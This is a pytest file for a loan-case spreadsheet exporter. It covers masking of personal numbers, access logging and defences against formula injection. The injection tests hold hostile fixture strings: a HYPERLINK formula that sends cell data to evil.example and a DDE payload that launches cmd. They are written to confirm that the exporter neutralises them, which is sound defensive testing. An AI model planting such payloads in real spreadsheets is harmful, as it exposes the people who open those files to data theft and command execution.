"""Spreadsheet export: one row per case, a flags sheet, masked unless asked, logged."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest

from domain.enums import CaseStatus
from storage.spreadsheet import SpreadsheetError, export_spreadsheet, flags_csv_path
from storage.workspace import Workspace
from tests.domain.memo_sample import FULL_ID, FULL_PHONE
from tests.storage.export_fixtures import OFFICER, walked_case, workstation

TODAY = date(2026, 11, 27)


@pytest.fixture
def ws(tmp_path: Path) -> Iterator[Workspace]:
    with workstation(tmp_path / "ws") as workspace:
        yield workspace


def test_xlsx_has_one_row_per_case_with_key_figures_and_a_flags_sheet(
    ws: Workspace, tmp_path: Path
) -> None:
    first = walked_case(ws)
    second = walked_case(ws, n=2)
    out = tmp_path / "cases.xlsx"
    assert export_spreadsheet(ws, [first.uuid, second.number], out, today=TODAY) == [out]

    cases = pd.read_excel(out, sheet_name="cases", dtype=str)
    flags = pd.read_excel(out, sheet_name="flags", dtype=str)
    assert list(cases["case_number"]) == ["3301-20261127-0001", "3301-20261127-0002"]
    row = cases.iloc[0]
    assert Decimal(row["amount"]) == Decimal("300000")
    # LTV = proposed loan ÷ appraised housing = 250000 ÷ 600000 = 0.41666…,
    # kept to six places: 0.416667
    assert Decimal(row["ltv"]) == Decimal("0.416667")
    for column in [f"S{i}_deviation" for i in range(1, 9)] + ["r1", "capacity_ratio"]:
        assert column in cases.columns
    # The counts on the case row agree with the flags sheet of that case.
    own = flags[flags["case_number"] == "3301-20261127-0001"]
    assert int(row["red_flags"]) == (own["severity"] == "red").sum()
    assert int(row["amber_flags"]) == (own["severity"] == "amber").sum()
    dismissed = own[own["rule"] == "purpose.request_exceeds_need"].iloc[0]
    assert dismissed["disposition"] == "dismissed"


def test_personal_numbers_are_masked_by_default_and_the_access_is_logged(
    ws: Workspace, tmp_path: Path
) -> None:
    case = walked_case(ws)
    out = tmp_path / "cases.xlsx"
    export_spreadsheet(ws, [case.uuid], out, today=TODAY)
    row = pd.read_excel(out, sheet_name="cases", dtype=str).iloc[0]
    assert row["owner_id"] == "110105********002X"
    assert row["owner_phone"] == "138****5678"
    assert row["owner_account"] == "6222 **** **** 1234"
    assert FULL_ID not in out.read_bytes().decode("latin-1")
    assert ws.store.access_log(case.uuid)[-1].action == "spreadsheet"


def test_unmasked_export_shows_full_numbers_and_is_logged_as_unmasked(
    ws: Workspace, tmp_path: Path
) -> None:
    case = walked_case(ws)
    out = tmp_path / "cases.csv"
    written = export_spreadsheet(ws, [case.uuid], out, unmasked=True, today=TODAY)
    assert written == [out, flags_csv_path(out)]
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    row = pd.read_csv(out, encoding="utf-8-sig", dtype=str).iloc[0]
    assert (row["owner_id"], row["owner_phone"]) == (FULL_ID, FULL_PHONE)
    assert row["amount"] == "300000"
    assert row["borrower"] == "路桥建国五金店"
    flags = pd.read_csv(flags_csv_path(out), encoding="utf-8-sig", dtype=str)
    assert "purpose.request_exceeds_need" in set(flags["rule"])
    log = ws.store.access_log(case.uuid)
    assert log[-1].action == "spreadsheet_unmasked"


def test_unknown_suffix_is_refused_and_nothing_written(ws: Workspace, tmp_path: Path) -> None:
    case = walked_case(ws)
    with pytest.raises(SpreadsheetError, match=r"\.xlsx or \.csv"):
        export_spreadsheet(ws, [case.uuid], tmp_path / "cases.ods", today=TODAY)
    assert list(tmp_path.glob("cases*")) == []
    assert "spreadsheet" not in [r.action for r in ws.store.access_log(case.uuid)]


def test_progress_is_told_after_each_case_is_assessed(ws: Workspace, tmp_path: Path) -> None:
    first = walked_case(ws)
    second = walked_case(ws, n=2)
    told: list[tuple[int, int]] = []
    export_spreadsheet(
        ws,
        [first.uuid, second.uuid],
        tmp_path / "cases.csv",
        today=TODAY,
        progress=lambda done, total: told.append((done, total)),
    )
    assert told == [(1, 2), (2, 2)]


# Formula injection (issue 20, defect 3): borrower text that begins with = + - @
# or a tab is written as inert text; amounts stay numbers, negative ones too.
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
HOSTILE_OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"


def _hostile_case(ws: Workspace) -> str:
    case = walked_case(ws, status=CaseStatus.DRAFT)
    case.applicant.registered_name = HOSTILE_NAME
    case.applicant.owner.name = HOSTILE_OWNER
    case.business.industry = "\t=1+1"
    case.loan.amount = Decimal("-500.25")
    ws.store.save(case, OFFICER)
    return case.uuid


def test_xlsx_writes_formula_leading_text_as_string_cells_and_amounts_as_numbers(
    ws: Workspace, tmp_path: Path
) -> None:
    import openpyxl

    uuid = _hostile_case(ws)
    out = tmp_path / "cases.xlsx"
    export_spreadsheet(ws, [uuid], out, unmasked=True, today=TODAY)
    sheet = openpyxl.load_workbook(out)["cases"]
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    for column, text in (
        ("borrower", HOSTILE_NAME),
        ("owner", HOSTILE_OWNER),
        ("industry", "\t=1+1"),
    ):
        cell = row[column]
        assert cell.data_type == "s", column  # a string, not a formula ("f")
        assert cell.value == text  # exactly as typed
        assert cell.quotePrefix, column  # stays text even after the cell is edited
    assert row["amount"].data_type == "n"
    assert Decimal(str(row["amount"].value)) == Decimal("-500.25")
    # no formula anywhere in the workbook
    book = openpyxl.load_workbook(out)
    assert not [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]


def test_csv_puts_a_quote_before_formula_leading_text_and_keeps_negative_amounts(
    ws: Workspace, tmp_path: Path
) -> None:
    import csv

    uuid = _hostile_case(ws)
    out = tmp_path / "cases.csv"
    export_spreadsheet(ws, [uuid], out, unmasked=True, today=TODAY)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["borrower"] == "'" + HOSTILE_NAME
    assert row["owner"] == "'" + HOSTILE_OWNER
    assert row["industry"] == "'\t=1+1"
    assert row["amount"] == "-500.25"  # a number, no quote
    assert row["case_number"] == "3301-20261127-0001"  # ordinary text untouched
